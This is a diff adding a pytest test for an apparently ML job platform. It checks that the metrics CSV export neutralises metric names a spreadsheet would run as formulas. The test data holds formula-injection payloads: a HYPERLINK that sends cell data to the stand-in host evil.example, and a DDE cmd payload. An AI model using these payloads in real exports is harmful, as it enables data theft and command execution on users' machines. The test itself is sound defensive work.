@@ -1,0 +1,43 @@
+"""A job names its own metrics; the CSV export must not hand a spreadsheet a formula to run.
+A real script job writes hostile metric names to its events file; the download quotes them."""
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from tests.conftest import wait_for
+
+HOSTILE_EVENTS = r"""
+import json, os
+names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', 'loss']
+with open(os.path.join(os.environ["TRAINHUB_RUN_DIR"], "events.jsonl"), "a") as fh:
+    fh.write(json.dumps({"type": "metrics", "step": 1, "values": {n: -1.5 for n in names}}) + "\n")
+print("wrote metrics", flush=True)
+"""
+
+
+@pytest.mark.slow
+def test_metric_names_that_spreadsheets_run_as_formulas_are_quoted_in_the_csv(
+        start_worker, cpu_pool, user, user_client, tmp_path):
+    from trainhub.jobs.models import Job, Metric
+    from trainhub.jobs.services import job_submit
+    from trainhub.pools.models import Workspace
+
+    (tmp_path / "csv").mkdir()
+    (tmp_path / "csv" / "job.py").write_text(HOSTILE_EVENTS)
+    Workspace.objects.create(name="csv", path=str(tmp_path / "csv"))
+    start_worker("cpu")
+    job = job_submit(owner=user, data={"mode": "script", "script": {"workspace": "csv", "entry": "job.py"}})
+    done = wait_for(lambda: Job.objects.filter(pk=job.pk, status__in=["succeeded", "failed"]).first(),
+                    timeout=120, message="the job to finish")
+    assert done.status == "succeeded", done.error
+    wait_for(lambda: Metric.objects.filter(job_id=job.pk).count() == 5, timeout=30, message="the metrics")
+
+    response = user_client.get(f"/jobs/{job.pk}/metrics.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    names = sorted(row[1] for row in rows[1:])
+    assert names == sorted(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+cmd|\" /C calc\"!A0",
+                            "'-2+3", "'@SUM(A1:A9)", "loss"])
+    assert {row[2] for row in rows[1:]} == {"-1.5"}  # values are numbers, left as they are
